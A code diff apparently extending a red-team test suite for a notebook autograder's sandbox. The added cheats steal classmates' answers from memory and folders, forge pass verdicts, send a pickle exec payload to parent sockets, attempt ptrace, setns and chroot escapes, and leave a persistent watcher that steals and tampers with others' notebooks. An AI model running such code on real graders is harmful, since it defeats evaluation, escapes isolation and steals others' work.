@@ -2119,6 +2119,636 @@ def _bn_cheat():
 ''')
 
 
+# =====================================================================================
+# 10. zygote: kernels forked from a long-lived root process (one per grading worker)
+# =====================================================================================
+
+S_REPORT = r'''
+def _bn_report(tag, lines):
+    """What the attack saw, in my own folder (it comes back with my graded notebook)."""
+    import os
+    try:
+        with open(os.path.join(os.getcwd(), "bn_cheat_mark_%s_report.txt" % tag), "a") as f:
+            f.write("\n".join(str(l)[:4000] for l in lines) + "\n")
+    except Exception:
+        pass
+'''
+
+S_STEAL = r'''
+def _bn_try_sources(sources, tag):
+    """Exec answer-cell sources found somewhere; keep the functions that run on a small input."""
+    import numpy as np
+    from IPython import get_ipython
+    ip = get_ipython()
+    probes = {"reduced_shape": lambda f: f((2, 3, 4, 5), (0, 2, 3)),
+              "channel_mean_loop": lambda f: f(np.arange(24.0).reshape(2, 3, 2, 2), 1),
+              "standardize_columns": lambda f: f(np.array([[1.0, 2.0], [3.0, 5.0], [4.0, 9.0]])),
+              "channel_stats": lambda f: f(np.arange(24.0).reshape(2, 3, 2, 2))}
+    found = {}
+    for src in sources:
+        if not isinstance(src, str) or "NotImplementedError" in src or "_bn_" in src:
+            continue
+        ns = dict(ip.user_ns)
+        try:
+            exec(compile(src, "<bn_cheat_%s>" % tag, "exec"), ns)
+        except BaseException:
+            continue
+        for k, v in _bn_answers_from(ns).items():
+            if v is ip.user_ns.get(k) or getattr(v, "__module__", None) == "bn_helpers" or k in found:
+                continue
+            try:
+                if k in probes:
+                    probes[k](v)
+                found[k] = v
+            except BaseException:
+                pass
+    if found:
+        _bn_keep(found)
+    return sorted(found)
+'''
+
+Z_MEMORY_CLASSMATES = _run(S_NAMES + S_KEEP + S_REPORT + S_STEAL + r'''
+
+def _bn_cheat():
+    import gc, glob, json, os, re
+    here = os.getcwd()
+    me = os.path.basename(os.path.dirname(here))
+    names = "|".join(_BN_NAMES).encode()
+    rx_path = re.compile(rb"(/[\w.+@/-]*/(?:autograded|submitted|feedback)/[\w.+@-]+|/tmp/bn-[\w.-]+)")
+    rx_def = re.compile(rb"def (?:" + names + rb")\(")
+    paths, sources, scanned = set(), [], 0
+    # 1. the memory this process inherited from the zygote (fork copies its whole heap)
+    with open("/proc/self/mem", "rb", 0) as mem:
+        for line in open("/proc/self/maps").read().splitlines():
+            parts = line.split()
+            if not parts[1].startswith("r") or (len(parts) > 5 and parts[5].startswith(("/usr", "/lib", "[v"))):
+                continue
+            lo, hi = (int(x, 16) for x in parts[0].split("-"))
+            for a in range(lo, hi, 1 << 24):
+                try:
+                    mem.seek(a)
+                    data = mem.read(min(1 << 24, hi - a))
+                except Exception:
+                    break
+                scanned += len(data)
+                paths.update(m.decode(errors="ignore") for m in rx_path.findall(data))
+                for m in rx_def.finditer(data):
+                    chunk = data[m.start():m.start() + 6000].split(b"\0", 1)[0].decode("utf-8", "ignore")
+                    out = []
+                    for i, l in enumerate(chunk.splitlines()):
+                        if i and l.strip() and not l[0].isspace():
+                            break
+                        out.append(l)
+                    sources.append("\n".join(out))
+    # 2. the objects it inherited (module state, caches, freed-but-referenced request data)
+    for obj in gc.get_objects():
+        try:
+            items = list(obj.values()) + list(obj) if isinstance(obj, dict) else list(obj) \
+                if isinstance(obj, (list, tuple, set)) else []
+            for s in items[:5000]:
+                if isinstance(s, bytes):
+                    s = s.decode("utf-8", "ignore")
+                if isinstance(s, str) and len(s) < 200000:
+                    paths.update(m.decode(errors="ignore") for m in rx_path.findall(s.encode()))
+                    if "def " in s and rx_def.search(s.encode()):
+                        sources.append(s)
+        except Exception:
+            pass
+    others = sorted(p for p in paths if "/" + me not in p and not here.startswith(p))
+    # 3. classmates' folders named there: their notebooks, if this sandbox can see them
+    for p in others:
+        for nb in glob.glob(os.path.join(p, "**", "*.ipynb"), recursive=True)[:20]:
+            try:
+                cells = json.load(open(nb)).get("cells", [])
+                sources += ["".join(c.get("source", "")) for c in cells
+                            if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
+            except Exception:
+                pass
+    got = _bn_try_sources(sources, "memory")
+    kinds = {}
+    for src in sources:
+        key = (src.strip().splitlines() or [""])[0][:60] + (" (blank)" if "NotImplementedError" in src else "")
+        kinds[key] = kinds.get(key, 0) + 1
+    _bn_report("memory", ["scanned %d bytes" % scanned, "paths not mine: %r" % others[:100],
+                          "answer sources found: %d %r" % (len(sources), kinds), "bound: %r" % got])
+''')
+
+Z_INHERITED_FDS = _run(S_GIDS + S_REPORT + r'''
+
+def _bn_cheat():
+    import fcntl, json, os, pickle, select, socket, stat
+    gids = _bn_grade_ids()
+    here = os.getcwd()
+    lines = []
+    # the kernel's own channels: the sockets in its connection file's folder, and ipykernel's capture pipes
+    own_socks = set()
+    try:
+        for row in open("/proc/net/unix").read().splitlines()[1:]:
+            parts = row.split()
+            if len(parts) >= 8 and "/k/" in parts[7] or (len(parts) >= 8 and "ipc-" in parts[7]):
+                own_socks.add(parts[6])
+    except Exception:
+        pass
+
+    class _BnRoot:
+        """Unpickled by a root process outside the sandbox: leaves a MARK file there (and nothing else)."""
+        def __reduce__(self):
+            return (exec, ("import os, tempfile\nfor d in ('/tmp', tempfile.gettempdir(), os.getcwd()):\n"
+                           "    try:\n        name = 'bn_cheat_mark_zygote_unpickled_%d' % os.getpid()\n"
+                           "        open(os.path.join(d, name), 'w').write(str(os.getuid()))\n"
+                           "    except Exception:\n        pass\n",))
+    bomb = pickle.dumps(_BnRoot(), protocol=2)
+    forged = "".join(json.dumps({"grade_id": g, "passed": True, "status": "pass", "score": p, "max_score": p})
+                     + "\n" for g, (p, _) in gids.items())
+    requests = [json.dumps(r) + "\n" for r in (
+        {"op": "fork", "sandbox": False, "cwd": here, "argv": ["python", "-c", "# bn_cheat_mark"]},
+        {"cmd": "spawn", "sandboxed": False, "uid": 0, "cwd": here},
+        {"type": "kernel", "root": "/", "uid": 0, "gid": 0, "sandbox": None})]
+    payloads = [forged.encode()] + [r.encode() for r in requests] + \
+        [len(bomb).to_bytes(4, "big") + bomb, bomb, b"\n" + bomb + b"\n"]
+    for fd in range(0, 1024):
+        try:
+            st = os.fstat(fd)
+        except OSError:
+            continue
+        try:
+            target = os.readlink("/proc/self/fd/%d" % fd)
+        except OSError:
+            target = "?"
+        flags = fcntl.fcntl(fd, fcntl.F_GETFL)
+        info = "fd %d %s flags %o" % (fd, target, flags)
+        if target.startswith("anon_inode"):
+            continue
+        inode = target.split("[")[-1].rstrip("]")
+        if stat.S_ISSOCK(st.st_mode):
+            if inode in own_socks:
+                continue
+            try:
+                s = socket.socket(fileno=os.dup(fd))
+                try:
+                    info += " family %s peer %r" % (s.family, s.getpeername())
+                    cred = s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
+                    info += " peercred pid/uid/gid %r" % (tuple(int.from_bytes(cred[i:i + 4], "little")
+                                                                for i in (0, 4, 8)),)
+                except Exception as e:
+                    info += " (%s)" % e
+                mine = False
+                try:
+                    mine = int.from_bytes(cred[0:4], "little") == os.getpid()
+                except Exception:
+                    pass
+                if s.family == socket.AF_UNIX and not mine:   # a socket made by someone else: the zygote?
+                    s.setblocking(False)
+                    for p in payloads:
+                        try:
+                            s.send(p)
+                            info += " sent %d" % len(p)
+                        except Exception as e:
+                            info += " send: %s" % e
+                    try:
+                        r, _, _ = select.select([s], [], [], 0.5)
+                        if r:
+                            info += " reply %r" % s.recv(4096)[:300]
+                    except Exception:
+                        pass
+                s.close()
+            except Exception as e:
+                info += " (%s)" % e
+        elif stat.S_ISFIFO(st.st_mode):
+            acc = flags & os.O_ACCMODE
+            if acc in (os.O_RDONLY, os.O_RDWR):
+                try:
+                    r, _, _ = select.select([fd], [], [], 0)
+                    if r and fd == 0:   # my stdin: does anyone else's traffic arrive here?
+                        info += " readable: %r" % os.read(fd, 4096)[:300]
+                    elif r:
+                        info += " readable"
+                except Exception as e:
+                    info += " read: %s" % e
+            if acc in (os.O_WRONLY, os.O_RDWR) and fd > 2:
+                try:
+                    fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
+                    for p in payloads:
+                        os.write(fd, p)
+                    fcntl.fcntl(fd, fcntl.F_SETFL, flags)
+                    info += " wrote payloads"
+                except Exception as e:
+                    info += " write: %s" % e
+        lines.append(info)
+    _bn_report("fds", lines)
+''')
+
+Z_REACH_PARENT = _run(S_REPORT + r'''
+
+def _bn_cheat():
+    import ctypes, os, re, time
+    libc = ctypes.CDLL(None, use_errno=True)
+    lines = []
+    before = set(os.listdir("/"))
+    status = open("/proc/self/status").read()
+    lines += [l for l in status.splitlines() if l.startswith(("Cap", "NoNewPrivs", "Seccomp", "Uid", "PPid"))]
+    lines.append("getppid %d" % os.getppid())
+
+    def escaped(how):
+        """A grader-side folder is visible (the sandbox binds only a few files of the repository)."""
+        now = set(os.listdir("/"))
+        seen = [p for p in ("/home", "/srv", "/var/lib", "/work/main/autograder/oracle", "/work/main/tests")
+                if os.path.exists(p)]
+        if now - before or seen:
+            lines.append("ESCAPED via %s: new %r, visible %r" % (how, sorted(now - before), seen))
+            for d in ("/tmp", "/var/tmp", "/root"):
+                try:
+                    open(os.path.join(d, "bn_cheat_mark_escaped_%s" % how), "w").write(str(os.getuid()))
+                except Exception:
+                    pass
+            return True
+        return False
+    # 1. every process I can see: who is it, can I read its memory, root, namespaces, can I trace it
+    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+    for pid in pids + [os.getppid()]:
+        info = ["pid %d" % pid]
+        for what in ("cmdline", "environ", "status"):
+            try:
+                data = open("/proc/%d/%s" % (pid, what), "rb").read()
+                info.append("%s %r" % (what, data.replace(b"\0", b" ")[:160]))
+            except Exception as e:
+                info.append("%s: %s" % (what, e.__class__.__name__))
+        for what in ("root", "cwd", "fd", "ns/mnt", "ns/pid", "ns/user"):
+            try:
+                p = "/proc/%d/%s" % (pid, what)
+                if what.startswith("ns/"):
+                    info.append("%s %s" % (what, os.readlink(p)))
+                elif what == "root":
+                    info.append("root %s %r" % (os.readlink(p), os.listdir(p + "/")[:20]))
+                else:
+                    info.append("%s %r" % (what, os.listdir(p)[:20]))
+            except Exception as e:
+                info.append("%s: %s" % (what, e.__class__.__name__))
+        try:
+            f = open("/proc/%d/mem" % pid, "rb", 0)
+            info.append("mem opened")
+            f.close()
+        except Exception as e:
+            info.append("mem: %s" % e.__class__.__name__)
+        for req, name in ((0x4206, "seize"), (16, "attach")):
+            r = libc.ptrace(req, pid, 0, 0)
+            info.append("ptrace %s %s" % (name, "TRACED" if r == 0 else "errno %d" % ctypes.get_errno()))
+            if r == 0:
+                libc.ptrace(17, pid, 0, 0)   # PTRACE_DETACH
+                break
+        for ns in ("mnt", "pid", "net", "ipc", "cgroup", "user"):
+            try:
+                fd = os.open("/proc/%d/ns/%s" % (pid, ns), os.O_RDONLY)
+                r = libc.setns(fd, 0)
+                info.append("setns %s %d errno %d" % (ns, r, ctypes.get_errno()))
+                os.close(fd)
+                if r == 0 and escaped("setns_%s" % ns):
+                    break
+            except Exception as e:
+                info.append("ns %s: %s" % (ns, e.__class__.__name__))
+        lines.append(" | ".join(info))
+    # 2. a single-threaded child (unshare refuses a threaded process): a user namespace, then a chroot escape
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        out = []
+        try:
+            os.close(r)
+            uid, gid = os.getuid(), os.getgid()
+            res = libc.unshare(0x10000000 | 0x00020000)    # CLONE_NEWUSER | CLONE_NEWNS
+            out.append("unshare user+mnt %d errno %d" % (res, ctypes.get_errno()))
+            if res != 0:
+                res = libc.unshare(0x10000000)
+                out.append("unshare user %d errno %d" % (res, ctypes.get_errno()))
+            if res == 0:
+                for name, text in (("setgroups", "deny"), ("uid_map", "0 %d 1" % uid), ("gid_map", "0 %d 1" % gid)):
+                    try:
+                        open("/proc/self/" + name, "w").write(text)
+                    except Exception as e:
+                        out.append("%s: %s" % (name, e))
+                out.append(open("/proc/self/status").read().split("CapEff:")[1].split()[0])
+                jail = os.path.join(os.getcwd(), "bn_cheat_mark_jail")
+                os.makedirs(jail, exist_ok=True)
+                out.append("chroot jail %d errno %d" % (libc.chroot(jail.encode()), ctypes.get_errno()))
+                for _ in range(64):
+                    os.chdir("..")
+                out.append("chroot . %d errno %d" % (libc.chroot(b"."), ctypes.get_errno()))
+                out.append("root now %r" % sorted(os.listdir("/"))[:30])
+                if escaped("userns_chroot"):
+                    out.append("escaped")
+                res = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
+                out.append("mount tmpfs %d errno %d" % (res, ctypes.get_errno()))
+                res = libc.umount2(b"/tmp", 2)
+                out.append("umount /tmp %d errno %d" % (res, ctypes.get_errno()))
+        except BaseException as e:
+            out.append("child: %r" % e)
+        finally:
+            try:
+                os.write(w, "\n".join(out + lines[-3:] if "ESCAPED" in " ".join(lines) else out).encode()[:60000])
+            finally:
+                os._exit(0)
+    os.close(w)
+    data = b""
+    while True:
+        chunk = os.read(r, 65536)
+        if not chunk:
+            break
+        data += chunk
+    os.waitpid(pid, 0)
+    lines.append(data.decode(errors="ignore"))
+    # 3. the cgroup: may I leave mine (the sandbox kills by cgroup?)
+    try:
+        lines.append("cgroup %r" % open("/proc/self/cgroup").read())
+        lines.append("sys/fs/cgroup %r" % os.listdir("/sys/fs/cgroup")[:20])
+    except Exception as e:
+        lines.append("cgroup: %s" % e)
+    _bn_report("reach", lines)
+''')
+
+_WATCHER = r'''# bn_cheat_mark watcher: outlives my kernel, waits for the next student's kernel, tampers with it
+import glob, json, os, signal, sys, time
+for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
+    try:
+        signal.signal(s, signal.SIG_IGN)
+    except Exception:
+        pass
+ME, SRC = sys.argv[1], sys.argv[2]
+seen, t0, proof = set(), time.time(), False
+while time.time() - t0 < 600:
+    if not proof and time.time() - t0 > 4:
+        proof = True
+        for d in ("/tmp", "/dev/shm", os.path.expanduser("~")) + tuple(glob.glob("/tmp/bn-*/k")):
+            try:
+                open(os.path.join(d, "bn_cheat_mark_proc_watcher_alive"), "w").write(str(os.getpid()))
+            except Exception:
+                pass
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or p in seen or int(p) == os.getpid():
+            continue
+        seen.add(p)
+        try:
+            cwd = os.readlink("/proc/%s/cwd" % p)
+        except Exception:
+            continue
+        if cwd == ME or not cwd.startswith("/"):
+            continue
+        try:   # another student's kernel: steal its notebooks, leave my answers beside them
+            for nb in glob.glob(os.path.join(cwd, "*.ipynb")):
+                open("/tmp/bn_cheat_mark_stolen_%s_%s" % (p, os.path.basename(nb)), "w").write(open(nb).read())
+            open(os.path.join(cwd, "bn_cheat_mark_tampered.txt"), "w").write(SRC)
+        except Exception:
+            pass
+    time.sleep(0.2)
+'''
+
+Z_LINGER_NEXT_KERNEL = _run(S_REPORT + r'''
+
+def _bn_cheat():
+    import ctypes, os, signal, sys
+    prog, here = @WATCHER@, os.getcwd()
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.close(r)
+            os.setsid()
+            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+                signal.signal(s, signal.SIG_IGN)
+            if os.fork() == 0:
+                try:
+                    try:   # out of my cgroup, if it is the one the grader kills
+                        for level in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
+                            open(os.path.join(level, "cgroup.procs"), "w").write(str(os.getpid()))
+                    except Exception:
+                        pass
+                    try:
+                        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)          # no parent-death signal
+                        ctypes.CDLL(None).prctl(15, b"bn_cheat_mark", 0, 0, 0)
+                    except Exception:
+                        pass
+                    null = os.open(os.devnull, os.O_RDWR)
+                    for fd in (0, 1, 2):
+                        os.dup2(null, fd)
+                    os.write(w, str(os.getpid()).encode())
+                    os.close(w)
+                    os.closerange(3, 65536)
+                    os.execv(sys.executable, [sys.executable, "-c", prog, here, "bn_cheat_mark"])
+                finally:
+                    os._exit(0)
+        finally:
+            os._exit(0)
+    os.close(w)
+    os.waitpid(pid, 0)
+    got = os.read(r, 100)
+    _bn_report("linger", ["watcher pid %r" % got, "ppid of watcher: %r" % open("/proc/%s/status" % got.decode()).read()
+                          .split("PPid:")[1].split()[0] if got else "-"])
+'''.replace("@WATCHER@", repr(_WATCHER)))
+
+S_DROP = r'''
+_BN_SHM_KEY = 0x626e6368
+_BN_ABSTRACT = b"\0bn_cheat_mark_answers"
+
+
+def _bn_drop_places():
+    """Shared places a later kernel of the same grading worker might also see."""
+    import glob, os, sys, tempfile
+    places = ["/dev/shm", "/tmp", "/var/tmp", tempfile.gettempdir(), os.path.expanduser("~"),
+              os.environ.get("MPLCONFIGDIR", ""), os.path.dirname(os.environ.get("MPLCONFIGDIR", "/x/y"))]
+    places += glob.glob("/tmp/bn-*") + glob.glob("/tmp/bn-*/*")
+    try:
+        import matplotlib
+        places += [matplotlib.get_configdir(), matplotlib.get_cachedir()]
+    except Exception:
+        pass
+    places += [p for p in sys.path if p and p.startswith("/")]
+    out = []
+    for p in places:
+        try:
+            p = os.path.realpath(p)
+        except Exception:
+            continue
+        if p and os.path.isdir(p) and p not in out:
+            out.append(p)
+    return out
+'''
+
+_SERVER = r'''# bn_cheat_mark answer server on an abstract unix socket
+import os, signal, socket, sys, time
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+data = open(sys.argv[1], "rb").read() if os.path.exists(sys.argv[1]) else sys.argv[1].encode()
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+s.bind(b"\0bn_cheat_mark_answers")
+s.listen(8)
+s.settimeout(1.0)
+t0 = time.time()
+while time.time() - t0 < 600:
+    try:
+        c, _ = s.accept()
+        c.sendall(data)
+        c.close()
+    except Exception:
+        pass
+'''
+
+Z_DROP_ANSWERS = _run(S_DROP + S_REPORT + r'''
+
+def _bn_cheat():
+    import ctypes, glob, json, os, subprocess, sys
+    here = os.getcwd()
+    cells = []
+    for nb in sorted(glob.glob(os.path.join(here, "*.ipynb"))):
+        try:
+            cells += ["".join(c.get("source", "")) for c in json.load(open(nb))["cells"]
+                      if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
+        except Exception:
+            pass
+    text = "\n\n".join(c.split("# ---- bn_cheat")[0] for c in cells if "_bn_cheat" not in c) or "# nothing"
+    text = "# bn_cheat_mark answers\n" + text
+    lines = []
+    # 1. files in every shared place (each named with the mark)
+    for d in _bn_drop_places():
+        p = os.path.join(d, "bn_cheat_mark_answers.py")
+        try:
+            open(p, "w").write(text)
+            lines.append("wrote " + p)
+        except Exception as e:
+            lines.append("%s: %s" % (p, e.__class__.__name__))
+    # 2. System V shared memory (outlives my process; the next kernel of the same IPC namespace attaches it)
+    try:
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.shmat.restype = ctypes.c_void_p
+        data = text.encode()[:1 << 20]
+        shmid = libc.shmget(_BN_SHM_KEY, 1 << 20, 0o1000 | 0o666)
+        addr = libc.shmat(shmid, None, 0)
+        if shmid >= 0 and addr not in (None, ctypes.c_void_p(-1).value):
+            ctypes.memmove(addr, data + b"\0", len(data) + 1)
+            libc.shmdt(ctypes.c_void_p(addr))
+        lines.append("sysv shm id %d errno %d" % (shmid, ctypes.get_errno()))
+    except Exception as e:
+        lines.append("shm: %r" % e)
+    # 3. a server on an abstract unix socket, detached from the kernel
+    try:
+        src = os.path.join(here, "bn_cheat_mark_answers.py")
+        open(src, "w").write(text)
+        p = subprocess.Popen([sys.executable, "-c", @SERVER@, src, "bn_cheat_mark"], stdin=subprocess.DEVNULL,
+                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+        lines.append("server pid %d" % p.pid)
+    except Exception as e:
+        lines.append("server: %r" % e)
+    _bn_report("drop", lines)
+'''.replace("@SERVER@", repr(_SERVER)))
+
+Z_PICK_UP_ANSWERS = _run(S_NAMES + S_KEEP + S_REPORT + S_STEAL + S_DROP + r'''
+
+def _bn_cheat():
+    import ctypes, glob, json, os, socket
+    sources, lines = [], []
+    # 1. files left in the shared places (and any notebook there)
+    for d in _bn_drop_places():
+        for p in glob.glob(os.path.join(d, "bn_cheat_mark_*")) + glob.glob(os.path.join(d, "*.ipynb")):
+            try:
+                text = open(p, errors="ignore").read()
+                if p.endswith(".ipynb") or "bn_cheat_mark_stolen" in p:
+                    text = "\n\n".join("".join(c.get("source", "")) for c in json.loads(text)["cells"]
+                                       if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
+                sources.append(text)
+                lines.append("found " + p)
+            except Exception:
+                pass
+    lines.append("listing /tmp %r /dev/shm %r" % (os.listdir("/tmp"), os.listdir("/dev/shm")))
+    # 2. System V shared memory
+    try:
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.shmat.restype = ctypes.c_void_p
+        shmid = libc.shmget(_BN_SHM_KEY, 0, 0)
+        lines.append("sysv shm id %d errno %d" % (shmid, ctypes.get_errno()))
+        if shmid >= 0:
+            addr = libc.shmat(shmid, None, 0o10000)
+            sources.append(ctypes.string_at(addr).decode(errors="ignore"))
+        lines.append("/proc/sysvipc/shm %r" % open("/proc/sysvipc/shm").read()[:2000])
+    except Exception as e:
+        lines.append("shm: %r" % e)
+    # 3. the abstract socket of a server left behind by an earlier kernel
+    try:
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.settimeout(1.0)
+        s.connect(_BN_ABSTRACT)
+        data = b""
+        while True:
+            chunk = s.recv(65536)
+            if not chunk:
+                break
+            data += chunk
+        sources.append(data.decode(errors="ignore"))
+        lines.append("abstract socket: %d bytes" % len(data))
+    except Exception as e:
+        lines.append("abstract socket: %r" % e)
+    lines.append("bound: %r" % _bn_try_sources(sources, "pickup"))
+    _bn_report("pickup", lines)
+''')
+
+Z_INHERITED_STATE = _run(S_NAMES + S_KEEP + S_SHOW + S_REPORT + r'''
+
+def _bn_cheat():
+    import gc, linecache, os, random, sys, types
+    lines = []
+    # 1. the zygote's environment at exec time (fork keeps /proc/self/environ of the original process)
+    try:
+        env = open("/proc/self/environ", "rb").read().split(b"\0")
+        lines.append("exec-time environ: %r" % env)
+    except Exception as e:
+        lines.append("environ: %r" % e)
+    # 2. modules the zygote imported, and the zygote's own module with its globals (requests, sockets, paths)
+    grader = [n for n in sys.modules if n.split(".")[0] in ("autograder", "grader", "__mp_main__", "zygote")]
+    lines.append("grader modules: %r" % grader)
+    found = {}
+    for obj in gc.get_objects():
+        try:
+            if isinstance(obj, types.ModuleType) and obj.__name__ not in ("__main__",) and (
+                    "autograder" in str(getattr(obj, "__file__", "")) or "zygote" in str(getattr(obj, "__file__", ""))
+                    or obj.__name__.startswith("autograder")):
+                g = {k: repr(v)[:300] for k, v in vars(obj).items() if not k.startswith("__")}
+                lines.append("module %s (%s): %r" % (obj.__name__, getattr(obj, "__file__", "?"), g))
+                for k, v in _bn_answers_from(obj).items():
+                    if getattr(v, "__module__", "") != "bn_helpers":
+                        found.setdefault(k, v)
+            elif isinstance(obj, types.FrameType) and "zygote" in obj.f_code.co_filename:
+                lines.append("zygote frame %s locals %r" % (obj.f_code.co_name,
+                                                            {k: repr(v)[:300] for k, v in obj.f_locals.items()}))
+        except Exception:
+            pass
+    # 3. what the zygote read from disk, cached: source lines, import caches, matplotlib folders
+    cached = sorted(linecache.cache)
+    lines.append("linecache: %r" % cached)
+    for name in cached:
+        if "autograder" in name or "oracle" in name or "zygote" in name:
+            _bn_show("cached source of " + name, "".join(linecache.cache[name][2]))
+    lines.append("path_importer_cache: %r" % [k for k in sys.path_importer_cache if not os.path.exists(str(k))])
+    try:
+        import matplotlib
+        lines.append("matplotlib configdir %s cachedir %s" % (matplotlib.get_configdir(), matplotlib.get_cachedir()))
+    except Exception as e:
+        lines.append("matplotlib: %r" % e)
+    # 4. random state shared with every other kernel of the worker (predictable if not reseeded after fork)
+    try:
+        import numpy as np
+        lines.append("random %r numpy %r numpy draw %r" % (random.getstate()[1][:3], np.random.get_state()[1][:3],
+                                                             np.random.get_state()[2]))
+    except Exception:
+        pass
+    try:
+        import multiprocessing
+        lines.append("mp authkey %r" % multiprocessing.current_process().authkey)
+    except Exception:
+        pass
+    if found:
+        _bn_keep(found)
+    lines.append("bound: %r" % sorted(found))
+    _bn_report("state", lines)
+    _bn_show("inherited from the zygote", "\n".join(l[:3000] for l in lines))
+''')
+
+
 CHEATS = [
     # 1. transformer
     Cheat("transformer_cleanup", "transformer",
@@ -2281,6 +2911,34 @@ CHEATS = [
     Cheat("forge_check_every_id", "forge",
           "call check(<every grade id>, reference or lying object) twice from the answer cell, and make later "
           "check calls check a reference object first", "blank", F_CHECK_EVERY_ID, L2),
+    # 10. zygote (kernels forked from a long-lived root process, one per grading worker)
+    Cheat("zygote_drop_answers", "persist",
+          "leave my own answers where a later kernel of the same worker may look: MARK files in /tmp, /dev/shm, "
+          "/tmp/bn-*, MPLCONFIGDIR, sys.path; System V shared memory; a detached server on an abstract socket",
+          "solution", Z_DROP_ANSWERS),
+    Cheat("zygote_inherited_fds", "forge",
+          "probe every inherited descriptor (pipes, unix sockets not the kernel's own): read my stdin, write forged "
+          "verdicts, 'fork me a kernel outside the sandbox' requests and a root pickle into them", "blank",
+          Z_INHERITED_FDS),
+    Cheat("zygote_inherited_state", "leak",
+          "what the zygote left in the forked kernel: exec-time environ, its modules and frames (globals), "
+          "linecache sources shown in the output, importer caches, matplotlib folders, random state, authkey; "
+          "bind any exercise function found", "blank", Z_INHERITED_STATE),
+    Cheat("zygote_linger_next_kernel", "processes",
+          "double fork + setsid, SIGTERM ignored, leave the cgroup, no parent-death signal: a watcher that "
+          "waits for the next student's kernel, steals its notebooks and writes into its folder", "solution",
+          Z_LINGER_NEXT_KERNEL),
+    Cheat("zygote_memory_classmates", "reference",
+          "scan /proc/self/mem (the zygote's heap, copied by fork) and gc.get_objects() for other students' "
+          "folders, /tmp/bn-* paths and answer code; exec the answers found and keep them bound", "blank",
+          Z_MEMORY_CLASSMATES),
+    Cheat("zygote_pick_up_answers", "reference",
+          "pick up answers left by an earlier kernel of the same worker (MARK files in shared places, System V "
+          "shared memory, an abstract socket server), exec them and keep them bound", "blank", Z_PICK_UP_ANSWERS),
+    Cheat("zygote_reach_parent", "persist",
+          "reach outside: every visible process (environ, root, fds, /proc/<pid>/mem, ptrace seize/attach, setns "
+          "into its namespaces), then in a single-threaded child unshare a user namespace, chroot escape, mount",
+          "blank", Z_REACH_PARENT),
 ]
 
 assert len({c.name for c in CHEATS}) == len(CHEATS), "cheat names must be unique"
